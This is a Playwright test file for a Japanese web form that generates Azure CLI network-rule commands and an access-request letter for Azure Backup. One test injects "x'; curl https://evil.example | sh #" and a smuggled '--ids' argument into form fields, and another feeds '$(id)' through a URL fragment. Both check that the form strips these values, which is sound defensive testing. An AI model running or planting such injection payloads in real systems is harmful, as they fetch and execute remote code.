import AxeBuilder from '@axe-core/playwright';
import { expect, test, type Page } from '@playwright/test';
import { conclusion, corpus, follow, paste, watch } from './helpers.ts';

const output = (page: Page, id: string) => page.locator(`[data-output="${id}"]`);

test('uses, region and device make table, commands, list and letter', async ({ page }) => {
  const problems = watch(page);
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith('http://localhost')) foreign.push(request.url());
  });
  await page.goto('/request/');
  // what is built is what the script shows
  await expect(output(page, 'commands')).toContainText('az network nsg rule create --resource-group RESOURCE_GROUP');
  await expect(output(page, 'commands')).toContainText('--destination-address-prefixes AzureBackup');
  await page.getByLabel('MARS エージェント').uncheck();
  await expect(page.locator('request-form [data-status]')).toContainText('使い方を 1 つ以上');
  await page.getByLabel('ファイルの回復 (ILR)').check();
  await page.locator('[name=region]').first().selectOption('jpw');
  await expect(output(page, 'list')).toContainText('pod01-rec2.jpw.');
  await expect(page.locator('[data-own]')).toContainText('DNS サーバー');
  await page.getByLabel('許可する機器').selectOption('azure-firewall');
  await page.getByLabel('リソース グループ').fill('rg-backup');
  await page.getByLabel('Azure Firewall の名前').fill('fw-hub');
  await page.getByLabel('送信元').fill('10.1.0.0/24');
  await page.getByLabel('期間').fill('2026-12-01 から');
  await expect(output(page, 'commands')).toContainText('--firewall-name fw-hub');
  await expect(output(page, 'commands')).toContainText('--source-addresses 10.1.0.0/24');
  await expect(output(page, 'commands')).toContainText('network-rule create');
  await expect(output(page, 'letter')).toContainText('2026-12-01 から');
  await page.locator('[data-copy="letter"]').click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('10.1.0.0/24');
  await page.getByLabel('許可する機器').selectOption('proxy');
  await expect(output(page, 'commands')).toContainText('FQDN の一覧を渡します');
  expect([...problems, ...foreign]).toEqual([]);
});

test('what is no name stays out of the commands', async ({ page }) => {
  await page.goto('/request/');
  await page.getByLabel('リソース グループ').fill("x'; curl https://evil.example | sh #");
  await page.getByLabel('送信元').fill('10.0.0.0/24 --ids x');
  await expect(output(page, 'commands')).toContainText('--resource-group RESOURCE_GROUP');
  await expect(output(page, 'commands')).not.toContainText('evil');
  await expect(output(page, 'commands')).not.toContainText('--ids');
});

test('a report leads to the request with its uses and its region', async ({ page }) => {
  await page.goto('/');
  await paste(page, corpus('storage-dropped'));
  await conclusion(page);
  await page.locator('.bar summary', { hasText: 'そのほか' }).click();
  const beside = await follow(page, page.locator('.bar a', { hasText: '許可の申請書' }));
  await expect(beside.locator('[name=use]:checked').first()).toBeVisible();
  await expect(beside.locator('[name=region]').first()).toHaveValue('jpw');
});

test('a link chooses only what the form knows', async ({ page }) => {
  await page.goto('/request/#use=<b>,sql,nothing&region=$(id),jpw');
  await expect(page.locator('[name=use]:checked')).toHaveCount(1);
  await expect(page.locator('[name=region]').first()).toHaveValue('jpw');
  await expect(page.locator('[name=region]').nth(1)).toHaveValue('');
});

test('by the keyboard alone', async ({ page }) => {
  await page.goto('/request/');
  await page.getByLabel('MARS エージェント').focus();
  await page.keyboard.press('Space');
  await expect(page.locator('request-form [data-status]')).toContainText('使い方を 1 つ以上');
  await page.keyboard.press('Space');
  await page.locator('[data-copy="commands"]').focus();
  await page.keyboard.press('Enter');
  await expect(page.locator('[data-copy="commands"]')).toHaveText('コピー済み');
});

for (const colorScheme of ['light', 'dark'] as const)
  for (const width of [390, 1280])
    test(`is accessible and fits: ${colorScheme}, ${width} px`, async ({ page }) => {
      await page.emulateMedia({ colorScheme });
      await page.setViewportSize({ width, height: 844 });
      await page.goto('/request/');
      expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
    });
